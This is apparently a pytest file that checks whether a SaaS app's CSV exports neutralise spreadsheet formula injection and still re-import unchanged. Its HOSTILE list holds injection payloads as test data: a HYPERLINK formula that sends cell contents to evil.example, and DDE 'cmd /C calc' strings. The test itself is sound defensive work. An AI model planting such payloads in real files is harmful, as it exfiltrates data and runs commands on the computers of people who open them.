"""Formula injection in CSV downloads: the plan's campaigns and calendar exports and the
agency data export.  A cell starting with ``= + - @``, tab or CR is prefixed with ``'``;
the plan import removes that prefix again, so an export re-imports unchanged.

Issue 14 item 3.  The choice for "-5%": text (not a plain number) starting with ``-`` is
prefixed (``'-5%``); plain numbers (``-5``, ``-12.5``) are left as they are, since a
spreadsheet reads them as numbers, never as formulas.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from sqlalchemy import select

from saas.extensions import db
from saas.models import Campaign
from saas.services import exports
from tenants.context import tenant_scope
from tests.calendar.conftest import content, make_plan

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "-5%",
    "'=already quoted",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _export(client, plan_id: int, kind: str) -> list[list[str]]:
    resp = client.get(f"/plans/{plan_id}/export/{kind}.csv")
    assert resp.status_code == 200
    assert resp.headers["Content-Disposition"].startswith("attachment")
    return list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"), newline="")))


def _name_campaigns(world, names: list[str]) -> None:
    with tenant_scope(world.agency.id):
        rows = list(db.session.scalars(select(Campaign).order_by(Campaign.id)))
        for row, name in zip(rows, names, strict=False):
            row.name = name
            row.duration_rationale = name
        db.session.commit()


# Names that start with a tab or CR, or hold a line break, are not what the plan forms and
# API store (a name is one line, trimmed), so they are checked on export only: the import
# trims them like any typed name.
ONE_LINE = [h for h in HOSTILE if h.strip() == h and "\n" not in h]
BATCHES = [ONE_LINE[0:3], ONE_LINE[3:6], [h for h in HOSTILE if h not in ONE_LINE]]


@pytest.mark.parametrize("batch", BATCHES, ids=["a", "b", "whitespace"])
def test_plan_exports_neutralise_formulas_and_read_back_unchanged(batch, alpha, login_as):
    world = make_plan(alpha)
    _name_campaigns(alpha, batch)
    client = login_as(alpha.owner)
    for kind in ("campaigns", "calendar"):
        rows = _export(client, world.plan_id, kind)
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(TRIGGERS) or _is_number(cell), (kind, cell)
    rows = _export(client, world.plan_id, "campaigns")
    header = rows[0]
    names = [dict(zip(header, r, strict=True))["name"] for r in rows[1:]]
    for name in batch:
        assert "'" + name in names, (name, names)

    if batch is BATCHES[2]:
        return
    # Round trip: the exported file imports back to the same revision content.
    before = content(world)
    data = client.get(f"/plans/{world.plan_id}/export/campaigns.csv").data
    resp = client.post(
        f"/plans/{world.plan_id}/import",
        data={"kind": "campaigns", "file": (io.BytesIO(data), "plan.csv")},
        content_type="multipart/form-data",
    )
    assert resp.status_code == 303, resp.get_data(as_text=True)[:500]
    assert content(world) == before


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("value", HOSTILE)
def test_the_agency_export_writer_neutralises_formulas(value):
    archive_bytes = io.BytesIO()
    with zipfile.ZipFile(archive_bytes, "w") as archive:
        exports._write_table(
            archive,
            "campaigns",
            ["id", "name", "budget"],
            [
                {"id": 1, "name": value, "budget": -5},
            ],
        )
    with zipfile.ZipFile(archive_bytes) as archive:
        text = archive.read("csv/campaigns.csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cell = rows[1][1]
    assert not cell.startswith(TRIGGERS), cell
    if value.startswith(TRIGGERS):
        assert cell == "'" + value
    assert rows[1][2] == "-5"  # a number stays a number
